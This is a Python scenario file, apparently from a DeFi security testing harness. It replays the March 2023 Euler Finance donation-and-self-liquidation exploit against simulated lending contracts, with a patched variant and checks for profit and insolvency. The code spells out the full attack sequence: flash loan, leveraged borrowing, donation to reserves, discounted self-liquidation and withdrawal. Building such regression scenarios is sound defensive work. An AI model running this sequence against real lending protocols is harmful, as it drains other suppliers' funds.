"""Euler, 13 March 2023: an account gives its claims away, and liquidates itself at a discount.

The gift makes the account unhealthy; the worse its health, the larger the discount, up to a fifth;
at that discount the same person takes the claims for four fifths of their worth, and
leaves debt that nobody will pay.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import MAX, Call, all_of, borrow, call, flash_loan, supply
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage

WAD = 10**18


@dataclass(frozen=True)
class Euler(Parameters):
    """USD. The pools that were emptied, as one.

    lendable_usd: of other suppliers
    own_usd: supplied beside what is borrowed: at an LTV of 95%, a twentieth
    leverage: what is borrowed and supplied again, as a multiple of own_usd
    gift_usd: given to the reserves; the profit is a fifth of the claims left, less own_usd
    max_discount_bps: of the liquidation module
    """

    lendable_usd: float = 197_000_000.0
    own_usd: float = 100_000_000.0
    leverage: float = 19.0
    gift_usd: float = 515_000_000.0
    max_discount_bps: int = 2_000


def play(stage: Stage, p: Euler) -> Generator[int | None, None, None]:
    """One transaction on borrowed money."""
    usd = stage.token("USD", 1)
    stage.feed("USD")
    market = stage.lending(
        "market",
        {"USD": {"ltv": 9_500, "threshold": 9_500}},
        contract="CheckedDonation" if p.remedied else "UncheckedDonation",
        module=lambda made: stage.deploy(
            "DiscountLiquidation", made, p.max_discount_bps * WAD // 10_000
        ),
    )
    module = stage.modules["market"]
    borrowed = p.own_usd * p.leverage
    lender = stage.lending("lender", {"USD": {}})
    stage.supplier("whale", lender, role="bystander", USD=p.own_usd + borrowed)
    stage.supplier("supplier", market, USD=p.lendable_usd)
    anyone = stage.actor("anyone", "bystander")
    attacker, heir = stage.actor("attacker"), stage.actor("second-account")
    stage.approve(attacker, ["USD"], market, module)
    stage.prepare(heir, call(market.market, "setOperator", attacker, True))
    yield None

    claims, debt = stage.units("USD", p.own_usd + borrowed), stage.units("USD", borrowed)
    steps: list[Call] = [
        supply(market.market, usd, claims, attacker),
        borrow(market.market, usd, debt, attacker),
        call(market.market, "donateToReserves", usd, stage.units("USD", p.gift_usd)),
        call(module, "liquidate", attacker, usd, usd, MAX, 0, True, heir),
        call(market.market, "withdraw", usd, all_of(usd, market), heir, attacker),
    ]
    sent = stage.send(
        "borrow for the block, supply and borrow twentyfold, give a quarter away, liquidate "
        "oneself at the discount, withdraw all there is",
        attacker,
        flash_loan(lender.market, attacker, usd, claims, steps),
    )
    yield None
    if sent.done:
        covering = call(market.market, "coverDeficitFromReserves", usd)
        stage.send("set the gift against the deficit", anyone, covering)
        yield None


ATTACK = Attack(
    name="health-donation",
    title="a gift to the reserves makes an account unhealthy, its owner liquidates it",
    sources=("Euler Finance, 13 March 2023",),
    play=play,
    parameters=Euler(),
    remedy="who gives claims away must stay healthy",
    stopped_by="Unhealthy",
    protocol=(Check("profit", at_most=0), Check("insolvency", at_most=0)),
    goal=lambda p: Check("profit", at_least=p.lendable_usd * 0.999),
    reported="$197M",
)
